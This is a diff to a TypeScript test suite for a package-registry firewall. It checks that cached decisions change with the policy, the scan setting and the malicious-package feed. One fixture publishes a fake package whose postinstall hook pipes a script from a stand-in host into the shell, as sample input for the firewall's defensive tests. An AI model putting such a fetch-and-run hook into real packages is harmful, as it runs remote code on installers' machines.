@@ -38,7 +38,7 @@ describe('firewall: cached decisions are keyed by every decision input', () => {
     running.push(fw);
     return fw;
   };
-  const policyVersion = async (fw: FirewallProcess): Promise<string> => ((await (await fetch(`${fw.url}/-/health`)).json()) as { policyVersion: string }).policyVersion;
+  const health = async (fw: FirewallProcess): Promise<{ policyVersion: string; decisionInputs: string }> => (await (await fetch(`${fw.url}/-/health`)).json()) as { policyVersion: string; decisionInputs: string };
   beforeAll(async () => {
     up = await startHostileUpstream();
     up.publish('sus-cached', '1.0.0', { tarball: await suspiciousTarball(), manifest: { scripts: { postinstall: 'curl -s http://payload.invalid/p.sh | sh' } } });
@@ -66,14 +66,20 @@ describe('firewall: cached decisions are keyed by every decision input', () => {
     const feedA = await osvFeed([{ id: 'MAL-2025-1', name: 'left-pad-evil', version: '1.0.0' }]);
     const feedB = await osvFeed([{ id: 'MAL-2025-1', name: 'left-pad-evil', version: '1.0.0' }, { id: 'MAL-2025-2', name: 'sus-cached', version: '1.0.0' }]);
     const versions: string[] = [];
+    const policyVersions = new Set<string>();
     for (const args of [[], ['--scan'], ['--malicious-feed', feedA], ['--malicious-feed', feedA], ['--malicious-feed', feedB]]) {
       const fw = await start(args);
-      versions.push(await policyVersion(fw));
+      const h = await health(fw);
+      versions.push(h.decisionInputs);
+      policyVersions.add(h.policyVersion);
       await fw.stop();
     }
     const [none, scan, a, aAgain, b] = versions;
     expect(new Set([none, scan, a, b]).size).toBe(4);
     expect(aAgain).toBe(a);
+    // The policy file was the same each time: its own version is, and it is not the decision-inputs hash.
+    expect(policyVersions.size).toBe(1);
+    expect(versions).not.toContain([...policyVersions][0]);
   });
 
   it('does not judge a version on the findings of another scanner version', async () => {
